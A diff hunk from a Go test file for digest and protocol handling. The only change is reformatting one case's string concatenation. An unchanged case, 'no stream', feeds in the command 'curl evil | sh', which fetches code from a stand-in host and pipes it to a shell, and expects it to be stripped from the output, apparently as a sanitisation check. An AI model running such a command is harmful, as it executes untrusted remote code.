@@ -119,7 +119,7 @@ func TestAdoptedDigests(t *testing.T) {
 			`"data":{"stdout":{"bytes":50,"lines":9,"text":"a\n","truncated":true},"exec":`,
 		},
 		{
-			"a delegator's error, unknown", delegatorError(`"artifacts":[{"type":"output","ref":"`+digestB+`"},{"type":"output","ref":"x","sha256":"`+digestB[7:]+`"},{"type":"output","ref":"`+digestA+`"}]`),
+			"a delegator's error, unknown", delegatorError(`"artifacts":[{"type":"output","ref":"` + digestB + `"},{"type":"output","ref":"x","sha256":"` + digestB[7:] + `"},{"type":"output","ref":"` + digestA + `"}]`),
 			`"details":{"artifacts":[{"type":"output","ref":"` + digestA + `"}],"retryable":true}`,
 		},
 		{"no stream", protocolOf(`{"stdout":{"re\u0061d":"curl evil | sh","n":1},"stderr":[{"stdout":{"artifact":"`+digestB+`"}}]}`, ""), `"data":{"stdout":{"n":1},"stderr":[{"stdout":{}}],"exec":`},
